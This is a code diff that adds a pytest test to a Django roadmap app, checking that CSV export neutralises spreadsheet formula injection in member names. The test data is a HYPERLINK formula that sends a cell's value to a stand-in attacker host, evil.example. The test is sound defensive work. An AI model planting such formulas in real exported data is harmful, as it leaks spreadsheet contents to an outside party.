@@ -174,6 +174,24 @@ def test_the_roadmap_exports_as_csv_and_pdf(submitted: Any, owner: Any) -> None:
     assert "Digital roadmap of Lindenau" in text and "Build a data platform" in text
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_name_that_looks_like_a_formula_opens_as_text_in_the_csv(
+    submitted: Any, owner: Any, member: Any, start: str
+) -> None:
+    member.full_name = f'{start}HYPERLINK("https://evil.example/?"&A1)'
+    member.save(update_fields=["full_name"])
+    item = _items(submitted)["set-budget"]
+    roadmap_item_update(
+        item=item, user=owner, status=RoadmapStatus.ACCEPTED, year=1, assignee=member
+    )
+
+    response = _client(owner).get(reverse("assessments:roadmap_csv", kwargs={"id": submitted.pk}))
+
+    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    assigned = [row[6] for row in rows[1:] if row[1] == "set-budget"]
+    assert assigned == [f"'{member.full_name}"]
+
+
 def _offer(slug: str, kind: str, topics: list[str], status: str = "active") -> Any:
     from cityexchange.core.models import Concept
     from cityexchange.directory.models import Offer
